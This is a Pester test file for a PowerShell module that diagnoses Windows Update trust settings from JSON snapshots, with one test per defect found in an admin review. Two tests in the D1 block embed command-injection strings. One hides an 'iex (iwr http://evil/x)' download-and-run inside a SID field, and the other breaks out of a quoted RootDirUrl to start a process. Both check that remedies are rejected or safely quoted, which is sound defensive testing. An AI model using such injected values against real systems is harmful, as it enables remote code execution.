# The admin trial (../shared/reviews/admin-trial.md), defect by defect: each It reproduces the
# defect's case as the trial did (a sample, edited, through the built module) and asserts what
# it must now be. Engine-level cases live in tests/cases (named d2-, d3-, d5-, d6- ...); the
# remedy property test is Remedies.Tests.ps1; D9, D12-D16 also have tests next to their commands.

BeforeAll {
    . (Join-Path $PSScriptRoot 'TestHelpers.ps1')
    Import-WuTrustBuiltModule

    function Save-EditedSample {
        # A sample, edited as the trial's one-liners did (ConvertFrom-Json, set, ConvertTo-Json -Depth 12).
        param([string]$Sample, [scriptblock]$Edit, [string]$Name)
        $s = Get-Content -Raw -LiteralPath (Join-Path $script:SamplesRoot $Sample) | ConvertFrom-Json
        & $Edit $s
        $path = Join-Path $TestDrive $Name
        $s | ConvertTo-Json -Depth 12 | Set-Content -LiteralPath $path -Encoding UTF8
        $path
    }
    function Get-StatusError {
        param([string]$Path)
        $err = $null
        try { $null = Get-WuTrustStatus -Snapshot $Path -ErrorAction Stop } catch { $err = $_ }
        $err
    }
}

Describe 'Admin trial D1: remedies are safe to paste' {
    It 'refuses a sid that is not a SID, naming the JSON path (the trial''s injection)' {
        $file = Save-EditedSample -Sample 'healthy.json' -Name 'inj.json' -Edit {
            param($s)
            $s.wintrust.hives[3].sid = "S-1-5-21-1-2-3-1001'; iex (iwr http://evil/x); '"
            $s.wintrust.hives[3].key.values.State.hex = 'C9000000'
        }
        $err = Get-StatusError -Path $file
        $err.FullyQualifiedErrorId | Should -BeLike 'WuTrust.Engine.InvalidSnapshot*'
        $err.Exception.Message | Should -BeLike '*wintrust.hives`[3`].sid: expected a SID*'
    }

    It 'quotes a RootDirUrl with quotes and a statement in it: the remedy stays one certutil command' {
        $evil = "http://wsus/ctl'; Start-Process calc; '"
        $file = Save-EditedSample -Sample 'healthy.json' -Name 'url.json' -Edit {
            param($s)
            $hex = -join ([System.Text.Encoding]::Unicode.GetBytes($evil) | ForEach-Object { $_.ToString('X2') })
            $s.ctl.autoUpdate.HKLM.values.RootDirUrl = [pscustomobject]@{ status = 'Ok'; type = 'REG_SZ'; hex = $hex }
        }
        $finding = (Get-WuTrustStatus -Snapshot $file).Findings | Where-Object Id -eq 'WUT-CTL-023'
        $finding.Remedy | Should -Be "certutil.exe '-syncWithWU' 'http://wsus/ctl''; Start-Process calc; '''"
        $tokens = $null; $errors = $null
        $ast = [System.Management.Automation.Language.Parser]::ParseInput($finding.Remedy, [ref]$tokens, [ref]$errors)
        $ast.EndBlock.Statements.Count | Should -Be 1
        $finding.RemedyName | Should -Be 'certutil.exe'
        $finding.RemedyArguments | Should -Be @('-syncWithWU', $evil)
    }

    It 'gives every remedy as data that can be splatted' {
        $report = Get-WuTrustStatus -Snapshot (Join-Path $script:SamplesRoot 'seed-002-wintrust-state-0xC9.json')
        $f = $report.Findings | Where-Object Id -eq 'WUT-WTR-001' | Select-Object -First 1
        $f.RemedyName | Should -Be 'Set-WinTrustState'
        $f.RemedyParameters.Sid | Should -Be 'S-1-5-21-1004336348-1177238915-682003330-1001'
        $f.RemedyParameters.Default | Should -BeTrue
        $f.Remedy | Should -Be "Set-WinTrustState -Sid 'S-1-5-21-1004336348-1177238915-682003330-1001' -Default"
    }
}

Describe 'Admin trial D2: 0x22849, the value that fixed seed 002, is healthy' {
    It 'reports the seed-002 sample with the user''s State set to 0x22849 as Healthy' {
        $file = Save-EditedSample -Sample 'seed-002-wintrust-state-0xC9.json' -Name 'fixed.json' -Edit {
            param($s)
            $s.wintrust.hives | Where-Object { $_.scope -in 'User', 'CurrentUser' } | ForEach-Object { $_.key.values.State.hex = '49280200' }
        }
        $report = Get-WuTrustStatus -Snapshot $file
        @($report.Findings | Where-Object Id -eq 'WUT-WTR-001').Count | Should -Be 0
        # The trial's repro keeps the log of the failure made with 0xC9 an hour before collection: it
        # stays a Warning with its next step (run the update again, then move the log aside).
        $log = @($report.Findings | Where-Object { $_.Severity -ne 'Info' })
        $log.Id | Should -Be @('WUT-LOG-010')
        $log.RemedyName | Should -Be 'Rename-Item'
        $log.RemedyDescription | Should -BeLike '*run the update again*'
    }

    It 'is Healthy with 0x22849 in every hive and no other fault (the acceptance point)' {
        $file = Save-EditedSample -Sample 'seed-002-wintrust-state-0xC9.json' -Name 'fixed-nolog.json' -Edit {
            param($s)
            foreach ($h in $s.wintrust.hives) {
                $h.key.values.State = [pscustomobject]@{ status = 'Ok'; type = 'REG_DWORD'; hex = '49280200' }
            }
            $s.logs.setup = @()
        }
        $report = Get-WuTrustStatus -Snapshot $file
        $report.Healthy | Should -BeTrue
        $report.Status | Should -Be 'Healthy'
    }

    It 'says 0x22849 does not break updates, and a clear OFFLINEOK_IND may break only individually signed files' {
        $state = ConvertFrom-WinTrustState 0x22849
        $state.BreaksUpdates.Count | Should -Be 0
        $state.MayBreakInstalls | Should -BeLike '*individual*Microsoft updates are signed commercially and are not affected*'
    }
}

Describe 'Admin trial D3: setup-log evidence expires and belongs to its profile' {
    It 'keeps a healthy machine healthy with a 2012 log in a 2026 snapshot, reporting the log as Info with its age' {
        $file = Save-EditedSample -Sample 'healthy.json' -Name 'oldlog.json' -Edit {
            param($s)
            $s.logs = (Get-Content -Raw -LiteralPath (Join-Path $script:SamplesRoot 'seed-002-wintrust-state-0xC9.json') | ConvertFrom-Json).logs
        }
        $report = Get-WuTrustStatus -Snapshot $file
        $report.Healthy | Should -BeTrue
        $old = $report.Findings | Where-Object Id -eq 'WUT-LOG-011'
        $old.Severity | Should -Be 'Info'
        $old.Title | Should -BeLike 'Old setup-log signature failures (the newest is * d* old)'
        $old.RemedyName | Should -Be 'Rename-Item'
    }

    It 'does not let a log in the admin''s TEMP raise NetworkService''s 0xC9' {
        $file = Save-EditedSample -Sample 'seed-002-wintrust-state-0xC9.json' -Name 'attrib.json' -Edit {
            param($s)
            foreach ($h in $s.wintrust.hives) {
                if ($h.scope -in 'User', 'CurrentUser') { $h.key.values.State.hex = '003C0200' }
                if ($h.scope -eq 'NetworkService') { $h.key.values.State = [pscustomobject]@{ status = 'Ok'; type = 'REG_DWORD'; hex = 'C9000000' } }
            }
        }
        $report = Get-WuTrustStatus -Snapshot $file
        $network = $report.Findings | Where-Object { $_.Id -eq 'WUT-WTR-001' }
        $network.Title | Should -BeLike '*(NetworkService)'
        $network.Severity | Should -Be 'Warning'
        $network.ExplainedBy | Should -BeNullOrEmpty
        @($report.Findings | Where-Object Id -eq 'WUT-WTR-100').Count | Should -Be 0
        ($report.Findings | Where-Object Id -eq 'WUT-LOG-010').RemedyName | Should -Be 'Rename-Item'
    }

    It 'takes the age limit as a parameter' {
        $file = Save-EditedSample -Sample 'healthy.json' -Name 'oldlog2.json' -Edit {
            param($s)
            $s.logs = (Get-Content -Raw -LiteralPath (Join-Path $script:SamplesRoot 'seed-002-wintrust-state-0xC9.json') | ConvertFrom-Json).logs
        }
        (Get-WuTrustStatus -Snapshot $file -SetupLogMaxAgeDays 10000).Healthy | Should -BeFalse
    }
}

Describe 'Admin trial D4: an engine limit on one file is that file''s error only' {
    It 'reports the 14 MB SDDL snapshot as one error naming the file and the limit, processes the next file, and runs the next statement' {
        $file = Save-EditedSample -Sample 'healthy.json' -Name 'big.json' -Edit {
            param($s)
            $s.acl.autoUpdate.sddl = 'D:PAI' + ('(A;CI;KR;;;BU)' * 1000000)
        }
        $files = @($file, (Join-Path $script:SamplesRoot 'healthy.json'))
        $reports = @(Get-WuTrustStatus -Snapshot $files -ErrorAction SilentlyContinue -ErrorVariable ev)
        $next = 'next statement'
        $next | Should -Be 'next statement'
        $reports.Count | Should -Be 1
        $reports[0].Healthy | Should -BeTrue
        $ev.Count | Should -Be 1
        $ev[0].TargetObject | Should -Be $file
        $ev[0].Exception.Message | Should -BeLike "*big.json*acl.autoUpdate.sddl*at most 65536 characters*"
    }

    It 'refuses a file over 32 MB before reading it' {
        $file = Join-Path $TestDrive 'huge.json'
        $stream = [System.IO.File]::Create($file)
        try { $stream.SetLength(33MB) } finally { $stream.Dispose() }
        $reports = @(Get-WuTrustStatus -Snapshot $file -ErrorAction SilentlyContinue -ErrorVariable ev)
        $reports.Count | Should -Be 0
        $ev.Count | Should -Be 1
        $ev[0].FullyQualifiedErrorId | Should -BeLike 'WuTrust.SnapshotTooLarge*'
        $ev[0].Exception.Message | Should -BeLike '*huge.json* is 33 MB*at most 32 MB*not read*'
    }
}

Describe 'Admin trial D5: SYSTEM''s view decides the CTL verdict' {
    It 'does not let a fresh HKCU of the collecting admin hide SYSTEM''s stale view' {
        $file = Save-EditedSample -Sample 'seed-000-stale-disallowed-ctl.json' -Name 'hkcu.json' -Edit {
            param($s)
            $fresh = [pscustomobject]@{ status = 'Ok'; type = 'REG_BINARY'; hex = '00D4E1F6E85BD901' }
            $s.ctl.autoUpdate.HKCU.values.DisallowedCertLastSyncTime = $fresh
        }
        $report = Get-WuTrustStatus -Snapshot $file
        ($report.ChecksRun | Where-Object Id -eq 'CTL.DisallowedSync').Outcome | Should -Be 'Fail'
        $evidence = ($report.Findings | Where-Object Id -eq 'WUT-CTL-001').Evidence
        ($evidence | Where-Object Item -like 'HKCU *').Item | Should -BeLike "*(the collecting account's; not what Windows Update reads)"
        ($evidence | Where-Object Item -eq 'Collected by').Value | Should -BeLike 'PC-SEED000\admin (S-1-5-21-*)'
        ($evidence | Where-Object Item -like 'Effective sync time*').Value | Should -BeLike '*decided*7 d*'
    }

    It 'is Incomplete when SYSTEM''s view was not collected and HKLM alone is stale' {
        $file = Save-EditedSample -Sample 'seed-000-stale-disallowed-ctl.json' -Name 'nodefault.json' -Edit {
            param($s)
            $s.ctl.autoUpdate.PSObject.Properties.Remove('DEFAULT')
            $s.acl.autoUpdate.sddl = $script:Healthy
            # Only the CTL verdict is at stake here: the sample's update-log failures go.
            $s.updateLogs.windowsUpdate.aggregate.failures = @()
        }
        $report = Get-WuTrustStatus -Snapshot $file
        ($report.ChecksNotRun | Where-Object Id -eq 'CTL.DisallowedSync').Reason | Should -BeLike "*SYSTEM's view could not be read*"
        $report.Status | Should -Be 'Incomplete'
    }
}

Describe 'Admin trial D6 and D19: remedies follow the cause, one cause counted once' {
    It 'makes the GPO the root cause and never sends the admin to the ACL repair when the ACL passes' {
        $r = Get-WuTrustStatus -Snapshot (Join-Path $script:SamplesRoot 'gpo-disallowed-updater-off.json')
        ($r.ChecksRun | Where-Object Id -eq 'ACL.AutoUpdate').Outcome | Should -Be 'Pass'
        $r.Findings[0].Id | Should -Be 'WUT-CTL-101'
        $r.Findings[0].RootCause | Should -BeTrue
        @($r.Findings | Where-Object { $_.RemedyName -eq 'Repair-WuAutoUpdateAcl' }).Count | Should -Be 0
    }

    It 'gives a malformed (future) value a backup-safe reset, not the ACL repair' {
        $file = Save-EditedSample -Sample 'healthy.json' -Name 'future.json' -Edit {
            param($s)
            $s.ctl.autoUpdate.HKLM.values.DisallowedCertLastSyncTime.hex = '00D4E1F6E85BDF01'
        }
        $f = (Get-WuTrustStatus -Snapshot $file).Findings | Where-Object Id -eq 'WUT-CTL-003'
        $f.Remedy | Should -Be "Reset-WuCtlSyncTime -Name 'DisallowedCertLastSyncTime' -Hive 'HKLM' -WhatIf"
    }

    It 'counts seed 000''s one cause once: 1 critical, the findings it explains marked (the update log''s included)' {
        $r = Get-WuTrustStatus -Snapshot (Join-Path $script:SamplesRoot 'seed-000-stale-disallowed-ctl.json')
        $r.CriticalCount | Should -Be 1
        $r.Summary | Should -BeLike 'Unhealthy: 1 critical, 0 warning, 0 info (+4 explained by a root cause)*'
        $explained = @($r.Findings | Where-Object ExplainedBy -eq 'WUT-CTL-100').Id | Sort-Object
        $explained | Should -Be @('WUT-ACL-002', 'WUT-CTL-001', 'WUT-LOG-001', 'WUT-LOG-004')
        $r.Findings[0].Explains | Should -Be @('WUT-CTL-001', 'WUT-ACL-002', 'WUT-LOG-001', 'WUT-LOG-004')
    }
}

Describe 'Admin trial D7: Healthy never silently covers what was not checked' {
    It 'checks the network family now that it exists, and a 0.1.0 snapshot without it is Incomplete, not Healthy' {
        $r = Get-WuTrustStatus -Snapshot (Join-Path $script:SamplesRoot 'healthy.json')
        $r.Healthy | Should -BeTrue
        @($r.ChecksRun | Where-Object Family -eq 'NetworkTrust').Count | Should -Be 6
        $old = Get-Content -Raw -LiteralPath (Join-Path $script:SamplesRoot 'healthy.json') | ConvertFrom-Json
        $old.PSObject.Properties.Remove('network')
        $path = Join-Path $TestDrive 'healthy-0.1.0.json'
        Set-Content -LiteralPath $path -Value ($old | ConvertTo-Json -Depth 12) -Encoding ascii
        $r = Get-WuTrustStatus -Snapshot $path
        $r.Status | Should -Be 'Incomplete'
        ($r.ChecksNotRun | Where-Object Id -eq 'NET.Reach').Reason | Should -Be 'the network facts were not collected'
    }

    It 'claims the TLS path in the manifest description only now that the network family checks it' {
        (Import-PowerShellDataFile -LiteralPath $script:BuiltManifest).Description | Should -BeLike '*TLS path*'
    }
}

Describe 'Admin trial D8: about_WuTrust' {
    It 'documents Restore-WuTrustBackup -Path and no ConvertFrom-WinTrustState -Path' {
        $text = Get-Content -Raw -LiteralPath (Join-Path $script:BuiltModuleRoot 'en-US/about_WuTrust.help.txt')
        $text | Should -BeLike '*Restore-WuTrustBackup -Path <backup.json>*'
        $text | Should -Not -BeLike '*ConvertFrom-WinTrustState -Path*'
        $text | Should -BeLike '*Reset-WuCtlSyncTime*'
    }
}

Describe 'Admin trial D10: a damaged file is a damaged file' {
    It 'refuses <Case> as InvalidSnapshot naming the JSON path' -ForEach @(
        @{
            Case = 'non-hex sync time'
            Edit = { param($s) $s.ctl.autoUpdate.HKLM.values.DisallowedCertLastSyncTime.hex = 'ZZDFC9FEA678DD01' }
            Path = 'ctl.autoUpdate.HKLM.values.DisallowedCertLastSyncTime.hex'
        }
        @{
            Case = 'odd-length hex'
            Edit = { param($s) $s.ctl.autoUpdate.HKLM.values.DisallowedCertLastSyncTime.hex = '90DFC9FEA678DD0' }
            Path = 'ctl.autoUpdate.HKLM.values.DisallowedCertLastSyncTime.hex'
        }
        @{ Case = 'a number as computer name'; Edit = { param($s) $s.machine.computerName = 12345 }; Path = 'machine.computerName' }
        @{ Case = 'an unknown scope'; Edit = { param($s) $s.wintrust.hives[0].scope = 'Martian' }; Path = 'wintrust.hives`[0`].scope' }
        @{ Case = 'collectedAt in 1601'; Edit = { param($s) $s.collectedAt = '1601-01-01T00:00:00Z' }; Path = 'collectedAt' }
    ) {
        $file = Save-EditedSample -Sample 'healthy.json' -Name 'damaged.json' -Edit $Edit
        $err = Get-StatusError -Path $file
        $err.FullyQualifiedErrorId | Should -BeLike 'WuTrust.Engine.InvalidSnapshot*'
        $err.Exception.Message | Should -BeLike "*$Path*"
        $err.TargetObject | Should -Be $file
    }

    It 'recognizes a report given as a snapshot' {
        $report = Join-Path $TestDrive 'report.json'
        Get-WuTrustStatus -Snapshot (Join-Path $script:SamplesRoot 'healthy.json') -AsJson | Set-Content -LiteralPath $report
        (Get-StatusError -Path $report).Exception.Message | Should -BeLike '*This is a WuTrust report*not a snapshot*'
    }
}

Describe 'Admin trial D11: -Verbose narrates' {
    It 'says each file and the engine time' {
        $lines = @(Get-WuTrustStatus -Snapshot (Join-Path $script:SamplesRoot 'healthy.json') -Verbose 4>&1 |
                Where-Object { $_ -is [System.Management.Automation.VerboseRecord] } | ForEach-Object Message)
        $lines | Should -Contain ($lines | Where-Object { $_ -like "Snapshot file '*healthy.json': * characters read" })
        @($lines | Where-Object { $_ -like "*engine 'diagnose' took * ms" }).Count | Should -Be 1
    }
}

Describe 'Admin trial D12: parameter ergonomics' {
    It 'takes the path by position, expands wildcards, and binds plain strings from the pipeline' {
        (Get-WuTrustStatus (Join-Path $script:SamplesRoot 'healthy.json')).ComputerName | Should -Be 'PC-HEALTHY'
        @(Get-WuTrustStatus -Snapshot (Join-Path $script:SamplesRoot '*.json')).Count | Should -Be 5
        @(Get-WuTrustStatus -Path (Join-Path $script:SamplesRoot 'h*.json')).Count | Should -Be 1
        @((Join-Path $script:SamplesRoot 'healthy.json') | Get-WuTrustStatus).Count | Should -Be 1
        @(Get-ChildItem -Path $script:SamplesRoot -Filter '*.json' | Get-WuTrustStatus).Count | Should -Be 5
    }
}

Describe 'Admin trial D13: error messages' {
    It 'says "snapshot file" and "not valid JSON", with the path as TargetObject and a fitting exception type' {
        $file = Join-Path $TestDrive 'notjson.json'
        Set-Content -LiteralPath $file -Value 'this is not json {'
        $err = Get-StatusError -Path $file
        $err.Exception.Message | Should -BeLike "Snapshot file '*notjson.json': not valid JSON: it starts with*"
        $err.Exception.Message | Should -Not -BeLike '*request*'
        $err.TargetObject | Should -Be $file
        $err.Exception | Should -BeOfType [System.IO.InvalidDataException]
    }

    It 'says valid but too deep JSON is too deep' {
        $file = Join-Path $TestDrive 'deep.json'
        Set-Content -LiteralPath $file -Value ('{"schemaVersion":1,"collectedAt":"2026-11-20T10:00:00Z","x":' + ('[' * 5000) + (']' * 5000) + '}')
        (Get-StatusError -Path $file).Exception.Message | Should -BeLike '*nested more than 64 levels deep*'
    }

    It 'gives ObjectNotFound a FileNotFoundException' {
        (Get-StatusError -Path (Join-Path $TestDrive 'none.json')).Exception | Should -BeOfType [System.IO.FileNotFoundException]
    }
}

Describe 'Admin trial D17: the CryptSvc account remedy works from Windows PowerShell 5.1' {
    It 'uses CIM with the empty password as data, not sc.exe' {
        $file = Save-EditedSample -Sample 'healthy.json' -Name 'account.json' -Edit { param($s) $s.services.CryptSvc.account = 'LocalSystem' }
        $f = (Get-WuTrustStatus -Snapshot $file).Findings | Where-Object Id -eq 'WUT-CTL-033'
        $f.RemedyName | Should -Be 'Invoke-CimMethod'
        $f.RemedyParameters.Arguments.StartName | Should -Be 'NT AUTHORITY\NetworkService'
        $f.RemedyParameters.Arguments.StartPassword | Should -Be ''
        $f.Remedy | Should -Not -BeLike '*sc.exe*'
    }
}

Describe 'Admin trial D18: output shape' {
    BeforeAll {
        $script:Report = Get-WuTrustStatus -Snapshot (Join-Path $script:SamplesRoot 'seed-000-stale-disallowed-ctl.json')
    }

    It 'survives PSSerializer at the default depth with nested findings and evidence' {
        $xml = [System.Management.Automation.PSSerializer]::Serialize($script:Report)
        $back = [System.Management.Automation.PSSerializer]::Deserialize($xml)
        $back.Findings[0].Id | Should -Be 'WUT-CTL-100'
        $back.Findings[0].Evidence[0].Raw | Should -Be $script:Report.Findings[0].Evidence[0].Raw
        $back.Findings[0].RemedyParameters.Strategy | Should -Be 'Auto'
        $back.ChecksRun[0].Id | Should -Be $script:Report.ChecksRun[0].Id
    }

    It 'keeps evidence readable through ConvertTo-Json and string expansion' {
        $json = $script:Report | ConvertTo-Json -Depth 2 -WarningAction SilentlyContinue
        $json | Should -Not -Match '"\s+"'
        "$($script:Report.Findings[0].Evidence[0])" | Should -BeLike 'HKLM DisallowedCertLastSyncTime: 20*'
    }

    It 'has a sortable severity rank, RootCause, and a table view with counts' {
        $ranks = @($script:Report.Findings | Sort-Object SeverityRank | ForEach-Object SeverityRank)
        $ranks[0] | Should -Be 0
        $script:Report.Findings[0].RootCause | Should -BeTrue
        $table = @($script:Report, $script:Report) | Format-Table | Out-String -Width 200
        $table | Should -Match 'ComputerName\s+Status\s+Critical\s+Warning\s+Summary'
        $table | Should -Match 'PC-SEED000\s+Unhealthy\s+1\s+0'
    }

    It 'puts the source and the versions in -AsJson' {
        $line = Get-WuTrustStatus -Snapshot (Join-Path $script:SamplesRoot 'healthy.json') -AsJson | ConvertFrom-Json
        $line.source | Should -BeLike '*healthy.json'
        $line.tool.version | Should -Be (Import-PowerShellDataFile -LiteralPath $script:BuiltManifest).ModuleVersion
        $line.engineVersion | Should -Not -BeNullOrEmpty
        $line.status | Should -Be 'Healthy'
    }

    It 'hides empty Scope and Path lines for a pasted value' {
        $text = ConvertFrom-WinTrustState 0xC9 | Out-String
        $text | Should -Not -Match '(?m)^Scope\s*:\s*$'
        $text | Should -Not -Match '(?m)^Path\s*:\s*$'
    }
}

Describe 'Admin trial D20: option 10' {
    It 'lists option 10 under both weakens and may break installs, UNVERIFIED' {
        $state = ConvertFrom-WinTrustState 4294967295
        $state.WeakensSecurity | Should -Contain ($state.WeakensSecurity | Where-Object { $_ -like '*WTPF_ALLOWONLYPERTRUST*' })
        @($state.MayBreakInstalls | Where-Object { $_ -like '*Trust DB*UNVERIFIED*' }).Count | Should -Be 1
    }
}

Describe 'Admin trial D21 and D22: test reporting and packaging' {
    It 'counts Pester''s not-run tests as not run in the closing line' {
        $build = Get-Content -Raw -LiteralPath (Join-Path $script:RepoRoot 'build.ps1')
        $build | Should -Match 'Write-Host "\$passed passed, \$failed failed, \$skipped skipped, \$\(\$pester\.NotRun \+ \$wine\.NotRun\) not run"'
        $build | Should -Match 'Skipped = \$result\.SkippedCount; NotRun = \$notRun'
    }

    It 'ships a LICENSE in the repo and the module, and release notes in the manifest' {
        Test-Path -LiteralPath (Join-Path $script:RepoRoot 'LICENSE') | Should -BeTrue
        Test-Path -LiteralPath (Join-Path $script:BuiltModuleRoot 'LICENSE') | Should -BeTrue
        (Import-PowerShellDataFile -LiteralPath $script:BuiltManifest).PrivateData.PSData.ReleaseNotes | Should -Not -BeNullOrEmpty
    }

    It 'has README commands that Windows PowerShell 5.1 can run (no &&)' {
        $readme = Get-Content -Raw -LiteralPath (Join-Path $script:RepoRoot 'README.md')
        $blocks = [regex]::Matches($readme, '(?s)```\r?\n(.*?)```') | ForEach-Object { $_.Groups[1].Value }
        @($blocks | Where-Object { $_ -match '&&' }).Count | Should -Be 0
    }
}
